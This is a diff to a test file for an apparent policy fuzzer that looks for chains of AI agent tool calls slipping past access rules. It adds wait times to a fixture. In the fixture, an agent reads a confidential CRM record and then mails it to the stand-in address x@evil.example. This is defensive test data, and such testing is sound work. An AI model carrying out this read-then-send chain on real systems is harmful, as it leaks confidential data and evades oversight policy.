@@ -4,6 +4,7 @@ import type { FuzzReport } from "./report.js";
 
 const step = {
   n: 1,
+  waited: 0,
   id: "c1",
   session: "s1",
   subject: { id: "agent-a" },
@@ -37,6 +38,7 @@ const report: FuzzReport = {
         subjects: 1,
         sessions: 2,
         calls: 24,
+        waits: [3_600_000],
         exhausted: { depth: 3, everything: false, positions: 77 },
       },
     ],
@@ -49,7 +51,14 @@ const report: FuzzReport = {
           world: "office",
           steps: [
             step,
-            { ...step, n: 2, id: "c2", tool: "mail.send", arguments: { to: ["x@evil.example"], body: "a" } },
+            {
+              ...step,
+              n: 2,
+              waited: 3_600_000,
+              id: "c2",
+              tool: "mail.send",
+              arguments: { to: ["x@evil.example"], body: "a" },
+            },
           ],
           outcome: "data labelled `confidential` has reached `x@evil.example`",
         },
@@ -72,7 +81,7 @@ it("prints a bypass as a chain of calls that reads like a story", () => {
 
       1. agent-a in s1: crm.read(record: "r1")
          allow by crm/reads; reads data that carries \`confidential\`
-      2. agent-a in s1: mail.send(to: ["x@evil.example"], body: "a")
+      2. 1h later, agent-a in s1: mail.send(to: ["x@evil.example"], body: "a")
          allow by crm/reads; reads data that carries \`confidential\`
 
       data labelled \`confidential\` has reached \`x@evil.example\`
@@ -86,7 +95,7 @@ it("prints a bypass as a chain of calls that reads like a story", () => {
 
     held overspend: More than 500 are paid
 
-    world office: 1 subject, 2 sessions, 24 possible calls
+    world office: 1 subject, 2 sessions, 24 possible calls, waits of 1h
       complete to depth 3: every sequence of at most 3 calls was tried, 77 positions reached
       sha256:4567
 
